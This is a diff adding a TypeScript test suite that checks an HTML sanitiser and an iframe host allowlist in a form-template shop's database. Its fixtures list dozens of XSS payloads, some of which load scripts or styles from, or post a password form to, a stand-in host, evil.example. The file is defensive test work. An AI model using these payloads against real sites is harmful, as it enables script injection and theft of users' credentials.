@@ -1,0 +1,274 @@
+import fc from 'fast-check';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { embedHosts } from '../../contracts/index.ts';
+import { templateIds, userIds } from '../../seed/ids.ts';
+import { type Database, testDatabase } from '../setup/database.ts';
+import {
+  DRAFT,
+  one,
+  PUBLISHED,
+  SAVE,
+  type Saved,
+  smallTemplate,
+  type WireTemplate,
+} from '../setup/example-templates.ts';
+import { openHost } from '../setup/open-host.ts';
+
+let host: Awaited<ReturnType<typeof openHost>>;
+let database: Database;
+const consoleError = console.error;
+beforeAll(async () => {
+  host = await openHost();
+  database = await testDatabase(host.database, () => host.close());
+  // The embedded host prints every refusal of the database; the refusals here are meant.
+  console.error = () => {};
+});
+afterAll(async () => {
+  console.error = consoleError;
+  await database.close();
+});
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<script/x>alert(1)</script\n>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" alt="a" onerror="alert(1)" onload=alert(2)>',
+  '<img/src="/a.webp"/onerror="alert(1)">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<img src="//evil.example/pixel.gif"><img src="/&#47;evil.example/pixel.gif"><img src="/\\evil.example/a.gif">',
+  '<svg onload=alert(1)><g><a xlink:href="javascript:alert(1)">x</a></g></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="jav&#x09;ascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">x</a><a href="javascript&colon;alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a><a href=\'vbscript:x\'>x</a><a href=data:text/html,x>x</a>',
+  '<a href="https://shop.example" onclick="alert(1)" style="position:fixed" target=_top id=x name=y class=z>x</a>',
+  '<a title=\'" onmouseover="alert(1)\' href="/a">x</a>',
+  '<a title="><img src=x onerror=alert(1)>">x</a>',
+  '<p style="background:url(javascript:alert(1))" onclick=alert(1)>x</p>',
+  '<style>@import "//evil.example/x.css"; p{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="//evil.example/">',
+  '<form action="//evil.example"><input name=password type=password><button formaction="javascript:alert(1)">x</button></form>',
+  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<body onload=alert(1)><html onclick=alert(1)><marquee onstart=alert(1)>x</marquee>',
+  '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)> ?>',
+  '<img src=x onerror=alert(1)//',
+  '<<img src=x onerror=alert(1)>',
+  '<p<img src=x onerror=alert(1)>',
+  '<x onclick=alert(1)>x</x><my-element onclick=alert(1)>x</my-element>',
+  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
+  '<select><option><img src=x onerror=alert(1)></option></select>',
+];
+
+const tag =
+  /<(?:\/?(?:abbr|b|blockquote|br|caption|cite|code|dd|del|details|div|dl|dt|em|figcaption|figure|h[1-6]|hr|i|ins|kbd|li|mark|p|pre|q|s|small|span|strong|sub|summary|sup|table|tbody|tfoot|thead|tr|u|ul|ol|td|th|a|img)(?: (?:title|lang|dir|href|src|alt|width|height|start|colspan|rowspan|scope)="[^"<>]*")*)>/g;
+
+/** What is left is words: no other tag, no other attribute, no address that runs or loads from elsewhere. */
+function expectInert(html: string): void {
+  expect(html.replaceAll(tag, '')).not.toContain('<');
+  const attributes = (html.match(tag) ?? []).flatMap((found) => [...found.matchAll(/ (href|src)="([^"]*)"/g)]);
+  for (const [, name, value = ''] of attributes) {
+    expect(value).toMatch(name === 'src' ? /^(https:\/\/|\/[^/\\&])/i : /^(https?:\/\/|mailto:|tel:|#|\/(?![/\\]))/i);
+  }
+}
+
+async function clean(texts: readonly string[]): Promise<string[]> {
+  const { rows } = await host.database.query<{ clean: string }>(
+    'select private.clean_html(x) as clean from unnest($1::text[]) with ordinality as t (x, n) order by n',
+    [texts],
+  );
+  return rows.map((row) => row.clean);
+}
+
+/** A template with one field of that type that shows the content, in the place of today and of the first editor. */
+function templateShowing(type: 'static_text' | 'iframe', key: 'html' | 'url', content: string) {
+  const template = smallTemplate();
+  const field = { id: 'temp-7', name: 'shown', label: 'Zeigt', options: [] };
+  const fields: object[] = template.sections[0]?.groups[0]?.fields ?? [];
+  fields.push({ ...field, field_type: type, additional_options: { [key]: content } });
+  fields.push({ ...field, id: 'temp-8', name: 'older', field_type: type, default_value: content });
+  return template;
+}
+
+describe('cleaning', () => {
+  it.each(attacks)('[BEY-36] makes %j inert', async (attack) => {
+    const [cleaned = ''] = await clean([attack]);
+    expectInert(cleaned);
+    expect(await clean([cleaned])).toEqual([cleaned]);
+  });
+
+  it('[BEY-36] neutralizes random combinations of attacks and keeps clean html unchanged', async () => {
+    const pieces = fc.constantFrom(
+      ...attacks.flatMap((attack) => attack.match(/<|>|[^<>]{1,12}/g) ?? []),
+      ...['"', "'", '<!--', '-->', '</', '/>', '&lt;', '=', ' ', '\n', '\u00a0', 'ß'],
+    );
+    const texts = fc.sample(
+      fc.array(pieces, { maxLength: 30 }).map((parts) => parts.join('')),
+      3000,
+    );
+    const once = await clean(texts);
+    for (const html of once) expectInert(html);
+    expect(await clean(once)).toEqual(once);
+  });
+
+  it('keeps headings, lists, tables, pictures, links, emphasis and every word', async () => {
+    const kept = [
+      '<h3>Pflege &amp; Maß</h3><p>Bei <strong>30 Grad</strong> <em>waschen</em>,<br>nicht bügeln: 3 &lt; 4 > 2.</p><hr>',
+      '<ul><li>Brust</li><li>Hals</li></ul><ol start="3"><li>Rücken</li></ol>',
+      '<table><tbody><tr><th scope="row">Größe</th><td colspan="2">S</td></tr></tbody></table>',
+      '<a href="https://example.de/a?b=1&amp;c=2#d" title="Maße">so</a> <a href="/measure">hier</a> <a href="mailto:a@example.de">Mail</a>',
+      '<img src="/catalogue/a.webp" alt="Hund im Regen" width="400" height="300">',
+    ];
+    expect(await clean(kept)).toEqual(kept);
+    expect(await clean(['<P CLASS="x">a < b</P><br/>', 'Länge < 40 cm & "gut"'])).toEqual([
+      '<p>a &lt; b</p><br>',
+      'Länge &lt; 40 cm & "gut"',
+    ]);
+  });
+
+  it('takes a long hostile text no longer than a long good one', async () => {
+    const long = ['<a "<""', '<!--<!', '</x <', '<p title="'].map((piece) => piece.repeat(10_000));
+    for (const html of await clean(long)) expectInert(html);
+  });
+});
+
+describe('an admin at the Data API', () => {
+  async function admin() {
+    const client = host.visitor();
+    const { error } = await client.auth.signInWithPassword({ email: 'admin@example.de', password: 'pfotenmass' });
+    if (error !== null) throw error;
+    return client;
+  }
+
+  it('[BEY-36] stores no attack, by saving, by writing rows or by publishing past the draft', async () => {
+    const client = await admin();
+    const attack = `<p>Gut</p>${attacks.join('')}`;
+    const template = templateShowing('static_text', 'html', attack);
+    const { data: saved } = await client
+      .rpc('save_form_template', { p_template: template, p_expected_revision: null, p_publish: true })
+      .throwOnError();
+    const { data: published } = await host.visitor().rpc('get_complete_form', { p_template_id: saved.id });
+    const contentsOf = (form: WireTemplate) =>
+      (form.sections[0]?.groups[0]?.fields ?? []).slice(-2).map((field) => {
+        const options = field.additional_options as { html?: string } | null;
+        return options?.html ?? String(field.default_value);
+      });
+    const contents = contentsOf(published);
+    expect(contents).toHaveLength(2);
+    for (const content of contents) {
+      expect(content).toMatch(/^<p>Gut<\/p>/);
+      expectInert(content);
+    }
+
+    const shown = published.sections[0].groups[0].fields.find(({ name }: { name: string }) => name === 'shown');
+    await client
+      .from('form_fields')
+      .update({ additional_options: { html: attack } })
+      .eq('id', shown.id)
+      .throwOnError();
+    await client
+      .from('form_fields')
+      .update({ field_type: 'text', additional_options: { html: attack } })
+      .eq('id', shown.id)
+      .throwOnError();
+    const { data: row } = await client.from('form_fields').select('additional_options').eq('id', shown.id).single();
+    expectInert(row?.additional_options.html);
+
+    const translations = { en: { 'additional_options.html': { text: attack, of: '<p>Gut</p><script>1</script>' } } };
+    await client.from('form_fields').update({ extra: { translations } }).eq('id', shown.id).throwOnError();
+    const { data: translated } = await client.from('form_fields').select('extra').eq('id', shown.id).single();
+    const html = translated?.extra.translations.en['additional_options.html'];
+    expectInert(html.text);
+    expect(html.of).toBe('<p>Gut</p>');
+
+    const definition = structuredClone(published);
+    for (const field of definition.sections[0].groups[0].fields) {
+      field.additional_options = { html: attack };
+      field.translations = translations;
+    }
+    await client
+      .from('template_versions')
+      .insert({ template_id: saved.id, version: 2, definition, published_by: userIds.admin })
+      .throwOnError();
+    const { data: second } = await host.visitor().rpc('get_complete_form', { p_template_id: saved.id });
+    expect(second.version).toBe(2);
+    for (const content of contentsOf(second)) expectInert(content);
+    for (const field of second.sections[0].groups[0].fields) {
+      expectInert(field.translations.en['additional_options.html'].text);
+    }
+  });
+
+  it.each([
+    'http://player.vimeo.com/video/1',
+    'https://evil.example/',
+    'https://player.vimeo.com.evil.example/',
+    'https://player.vimeo.com@evil.example/',
+    'https://player.vimeo.com',
+    'https://player.vimeo.com/"><script>',
+    'javascript:alert(1)//https://player.vimeo.com/',
+    '<iframe src="https://player.vimeo.com/video/1"></iframe>',
+    'data:text/html,x',
+    '//player.vimeo.com/video/1',
+  ])('[BEY-36] rejects the frame %j, and names the field and the allowed hosts', async (url) => {
+    const client = await admin();
+    const { error } = await client.rpc('save_form_template', {
+      p_template: templateShowing('iframe', 'url', url),
+      p_expected_revision: null,
+      p_publish: false,
+    });
+    expect(error).toMatchObject({
+      message: 'invalid_template',
+      details:
+        'The field "shown" may only show addresses that begin with https://player.vimeo.com/ or https://www.youtube-nocookie.com/.',
+    });
+  });
+});
+
+it('frames pages of the hosts the shop allows, and of none that only the database knows', () =>
+  database.trial(async ({ owner, as }) => {
+    expect(await owner.value('select private.embed_hosts()')).toEqual([...embedHosts]);
+    for (const url of [...embedHosts.map((name) => `https://${name}/video/1?a=b`), '']) {
+      const saved = await one<Saved>(as('admin'), SAVE, [templateShowing('iframe', 'url', url), null, true]);
+      const form = await one<WireTemplate>(as('visitor'), PUBLISHED, [saved.id]);
+      const [field] = form.sections[0]?.groups[0]?.fields.slice(-2) ?? [];
+      expect(field?.additional_options).toEqual({ url });
+    }
+  }));
+
+it('publishes without an address that no frame may show, where one was stored before this was checked', () =>
+  database.trial(async ({ owner, as }) => {
+    const saved = await one<Saved>(as('admin'), SAVE, [
+      templateShowing('iframe', 'url', 'https://player.vimeo.com/1'),
+      null,
+      false,
+    ]);
+    await owner.query('alter table public.form_fields disable trigger clean_form_field');
+    await owner.query(
+      `update public.form_fields set additional_options = '{"url": "https://evil.example/"}' where name = 'shown'`,
+    );
+    expect(await as('admin').value('select public.publish_form_template($1)', [saved.id])).toBe(1);
+    const form = await one<WireTemplate>(as('visitor'), PUBLISHED, [saved.id]);
+    expect(JSON.stringify(form)).not.toContain('evil');
+  }));
+
+it('leaves the templates of the shop as they are', () =>
+  database.trial(async ({ as }) => {
+    for (const id of Object.values(templateIds)) {
+      const draft = await one<WireTemplate>(as('admin'), DRAFT, [id]);
+      await as('admin').query(SAVE, [draft, draft.revision, true]);
+      expect(await one<WireTemplate>(as('admin'), DRAFT, [id])).toMatchObject({ version: 1, sections: draft.sections });
+    }
+  }));
